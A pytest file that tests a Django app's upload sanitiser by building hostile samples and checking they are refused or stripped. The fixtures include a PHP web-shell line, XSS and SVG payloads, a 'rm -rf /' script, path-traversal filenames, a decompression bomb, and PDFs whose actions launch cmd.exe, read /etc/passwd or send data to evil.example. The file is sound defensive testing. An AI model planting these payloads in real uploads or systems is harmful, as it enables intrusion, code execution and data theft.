"""Files made to harm: none is stored as it came, and what is stored is only what it seems to be."""

from __future__ import annotations

import io
import struct
import zipfile
import zlib

import pytest
from django.core.exceptions import ValidationError
from django.core.files.uploadedfile import SimpleUploadedFile
from PIL import Image, PngImagePlugin
from pypdf import PdfReader, PdfWriter
from pypdf.generic import ArrayObject, DecodedStreamObject, DictionaryObject, NameObject, TextStringObject

from liaison.media.documents.fields import rewritten as rewritten_document
from liaison.media.images import fields
from liaison.media.images.fields import rewritten as rewritten_picture

HTML = b"<html><script>alert(document.domain)</script></html>"
NAMES = (
    "a.jpg",
    "a.php.jpg",
    "a.jpg.php",
    "..\\..\\a.jpg",
    "../../../etc/a.jpg",
    "a.svg",
    "a\x00.jpg",
    ".htaccess",
    "a.html;.png",
)


def upload(data: bytes, name: str = "a.jpg", kind: str = "image/jpeg") -> SimpleUploadedFile:
    return SimpleUploadedFile(name, data, content_type=kind)


def picture(form: str = "PNG", **options: object) -> bytes:
    output = io.BytesIO()
    Image.new("RGB", (40, 30), "teal").save(output, form, **options)
    return output.getvalue()


def zipped(**files: bytes) -> bytes:
    output = io.BytesIO()
    with zipfile.ZipFile(output, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, data in files.items():
            archive.writestr(name.replace("__", "/"), data)
    return output.getvalue()


def chunk(kind: bytes, data: bytes) -> bytes:
    return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))


def png_of(width: int, height: int, pixels: bytes) -> bytes:
    head = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", head) + chunk(b"IDAT", zlib.compress(pixels)) + chunk(b"IEND", b"")


def png_with_texts() -> bytes:
    texts = PngImagePlugin.PngInfo()
    texts.add_text("Comment", HTML.decode(), zip=True)
    return picture(pnginfo=texts)


def pdf(change=lambda writer: None) -> bytes:
    writer = PdfWriter()
    writer.add_blank_page(200, 200)
    change(writer)
    output = io.BytesIO()
    writer.write(output)
    return output.getvalue()


def opening(action: DictionaryObject):
    def change(writer: PdfWriter) -> None:
        writer.root_object[NameObject("/OpenAction")] = action

    return change


def action(kind: str, **entries: str) -> DictionaryObject:
    made = {NameObject("/S"): NameObject(kind)}
    return DictionaryObject(made | {NameObject(f"/{name}"): TextStringObject(value) for name, value in entries.items()})


def with_form(writer: PdfWriter) -> None:
    xfa = DecodedStreamObject()
    xfa.set_data(b"<xdp:xdp><script>app.alert(1)</script></xdp:xdp>")
    form = DictionaryObject({NameObject("/XFA"): writer._add_object(xfa), NameObject("/Fields"): ArrayObject()})
    writer.root_object[NameObject("/AcroForm")] = form


def with_scripts(writer: PdfWriter) -> None:
    listed = ArrayObject([TextStringObject("a"), action("/JavaScript", JS="app.alert(1)")])
    names = DictionaryObject({NameObject("/JavaScript"): DictionaryObject({NameObject("/Names"): listed})})
    writer.root_object[NameObject("/Names")] = names


BOMB = zlib.compress(b"\0" * 60_000_000, 9)
POLYGLOTS = {
    "a picture and an archive": picture("JPEG") + zipped(**{"run.exe": b"MZ"}),
    "a picture and a page": picture("JPEG") + HTML,
    "a picture that remarks": picture("JPEG", comment=HTML),
    "a picture with texts": png_with_texts(),
    "a picture and a program": picture("PNG") + b"<?php system($_GET['c']); ?>",
    "a drawing as a picture": picture("GIF") + b"/*" + HTML + b"*/",
    "a picture whose metadata speak": picture("JPEG", exif=b"Exif\0\0" + b"MM\0*\0\0\0\x08\0\0" + HTML),
}
REFUSED = {
    "svg": b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>',
    "svg with a head": b'<?xml version="1.0"?><!DOCTYPE svg><svg><script>alert(1)</script></svg>',
    "page": HTML,
    "page that begins as a picture": b"GIF89a/*" + HTML,
    "archive": zipped(a=b"x"),
    "archive of much": zipped(a=b"\0" * 10_000_000),
    "word": zipped(word__document=b"<w:document/>"),
    "word with macros": zipped(word__vbaProject=b"macro"),
    "excel, old": b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 600,
    "rich text": rb"{\rtf1{\object\objdata 0105}}",
    "7z": b"7z\xbc\xaf\x27\x1c" + b"\0" * 100,
    "rar": b"Rar!\x1a\x07\x00" + b"\0" * 100,
    "gzip": b"\x1f\x8b\x08" + b"\0" * 100,
    "program": b"MZ" + b"\0" * 200,
    "program of unix": b"\x7fELF" + b"\0" * 200,
    "script": b"#!/bin/sh\nrm -rf /\n",
    "postscript": b"%!PS-Adobe-3.0 EPSF-3.0\n(/etc/passwd) (r) file\n",
    "tiff": b"II*\0" + b"\0" * 100,
    "photoshop": b"8BPS\0\x01" + b"\0" * 100,
    "font": b"\0\1\0\0\0\x10" + b"\0" * 100,
    "video": b"\0\0\0\x18ftypmp42" + b"\0" * 100,
    "nothing": b"\0",
    "picture of too many pixels": png_of(50_000, 50_000, b""),
    "picture that unpacks to more than it says": png_of(30_000, 30_000, b"\0" * 1000),
    "picture without its pixels": png_of(100, 100, b""),
    "picture without end": picture()[:60],
    "pdf that is none": b"%PDF-1.7\n" + HTML,
}
HARMFUL_PDFS = {
    "a script": opening(action("/JavaScript", JS="app.alert(1)")),
    "a program": opening(action("/Launch", F="cmd.exe")),
    "a file elsewhere": opening(action("/GoToR", F="\\\\evil.example\\share")),
    "a form that is sent": opening(action("/SubmitForm", F="https://evil.example/")),
    "data that are taken in": opening(action("/ImportData", F="/etc/passwd")),
    "an address": opening(action("/URI", URI="https://evil.example/?")),
    "scripts by name": with_scripts,
    "a file within": lambda writer: writer.add_attachment("run.exe", b"MZ"),
}
TRACES = (
    b"<script",
    b"<?php",
    b"JavaScript",
    b"/JS",
    b"Launch",
    b"EmbeddedFile",
    b"evil.example",
    b"SubmitForm",
    b"MZ",
    b"PK\x03\x04",
)


@pytest.mark.parametrize("name", POLYGLOTS)
@pytest.mark.parametrize("rewritten", [rewritten_picture, rewritten_document], ids=["picture", "attachment"])
def test_of_two_things_in_one_file_only_the_picture_stays(rewritten, name):
    try:
        stored = rewritten(upload(POLYGLOTS[name])).read()
    except ValidationError:
        return
    assert not [trace for trace in TRACES if trace in stored]
    assert Image.open(io.BytesIO(stored)).format in ("WEBP", "JPEG", "PNG")


@pytest.mark.parametrize("name", REFUSED)
@pytest.mark.parametrize("rewritten", [rewritten_picture, rewritten_document], ids=["picture", "attachment"])
@pytest.mark.parametrize(("called", "kind"), [("a.jpg", "image/jpeg"), ("a.pdf", "application/pdf")])
def test_what_is_neither_picture_nor_pdf_is_refused_whatever_it_is_called(rewritten, name, called, kind):
    with pytest.raises(ValidationError):
        rewritten(upload(REFUSED[name], called, kind))


@pytest.mark.parametrize("name", HARMFUL_PDFS)
def test_nothing_in_a_pdf_acts(name):
    try:
        stored = rewritten_document(upload(pdf(HARMFUL_PDFS[name]), "a.pdf")).read()
    except ValidationError:
        return
    assert not [trace for trace in TRACES if trace in stored]
    root = PdfReader(io.BytesIO(stored)).root_object
    assert not {"/OpenAction", "/AA", "/AcroForm", "/JavaScript"} & set(root)
    assert "/EmbeddedFiles" not in root.get("/Names", {})


def test_a_pdf_with_a_form_of_scripts_is_refused_or_loses_it():
    try:
        stored = rewritten_document(upload(pdf(with_form), "a.pdf")).read()
    except ValidationError:
        return
    assert b"XFA" not in stored
    assert b"app.alert" not in stored


def test_a_pdf_that_unpacks_without_end_takes_bounded_memory():
    def change(writer: PdfWriter) -> None:
        stream = DecodedStreamObject()
        stream.set_data(BOMB)
        stream[NameObject("/Filter")] = NameObject("/FlateDecode")
        writer.pages[0][NameObject("/Contents")] = writer._add_object(stream)

    data = pdf(change)
    assert len(data) < 200_000
    try:
        found = rewritten_document(upload(data, "a.pdf"))
    except ValidationError:
        return
    assert found.size < 1_000_000
    assert found.text() == ""


def test_a_large_picture_is_refused_before_it_is_read(monkeypatch):
    monkeypatch.setattr(fields, "MAX_SIZE", 100)
    with pytest.raises(ValidationError, match="أكبر"):
        rewritten_picture(upload(picture("PNG") + b"\0" * 200))


@pytest.mark.parametrize("name", NAMES)
def test_the_name_of_an_upload_decides_nothing(name):
    assert rewritten_picture(upload(picture("PNG"), name)).name == "picture.webp"
    assert rewritten_document(upload(picture("PNG"), name)).name == "document.png"
